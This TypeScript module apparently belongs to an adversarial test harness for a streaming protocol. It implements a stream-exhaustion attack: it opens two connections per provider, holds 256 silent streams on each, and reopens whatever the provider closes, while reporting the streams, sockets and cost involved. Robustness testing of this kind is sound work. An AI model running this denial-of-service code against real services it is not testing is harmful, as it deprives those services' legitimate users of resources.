import { STREAM_PROTOCOL } from '#shared/stream/constants.ts'
import type { Attack } from '../attack.ts'
import { HostileAsker } from '../tools/hostile-asker.ts'

const CONNECTIONS_PER_PROVIDER = 2
const STREAMS_PER_CONNECTION = 256
const LOOK_MS = 100

/**
 * At each provider two connections, each with 256 streams for jobs on which nothing is ever said. What the provider
 * closes is opened again, and so is a connection that it cuts.
 */
export const attack: Attack = async ({ providers }, { signal, tell }) => {
  const askers: HostileAsker[] = []
  let streams = 0
  const hold = async (asker: HostileAsker, whenHeld: () => void): Promise<void> => {
    while (!signal.aborted) {
      await asker.return(signal).catch(() => undefined)
      const held = asker.connection.streams.filter(({ protocol }) => protocol === STREAM_PROTOCOL)
      const missing = STREAMS_PER_CONNECTION - held.length
      const opened = await Promise.allSettled(
        Array.from({ length: missing }, () => asker.openStream(STREAM_PROTOCOL, signal)),
      )
      streams += opened.filter(({ status }) => status === 'fulfilled').length
      tell({ streams, sockets: askers.reduce((sum, { dials }) => sum + dials, 0) })
      whenHeld()
      // Its own side goes as well once the provider has turned it away: else it would be the one who has no more.
      for (const stream of asker.connection.streams)
        if (stream.remoteWriteStatus !== 'writable') stream.abort(new Error('turned away'))
      await new Promise((resolve) => setTimeout(resolve, LOOK_MS))
    }
  }
  for (const provider of providers)
    for (let i = 0; i < CONNECTIONS_PER_PROVIDER; i++) askers.push(await HostileAsker.start(provider, signal))
  const cost = { keys: askers.length, sockets: askers.length, addresses: 1 }
  const holding = askers.map((asker) => {
    const { promise, resolve } = Promise.withResolvers<void>()
    return { first: promise, until: hold(asker, resolve) }
  })
  await Promise.all(holding.map(({ first }) => first))
  tell(cost)
  await Promise.all(holding.map(({ until }) => until))
}
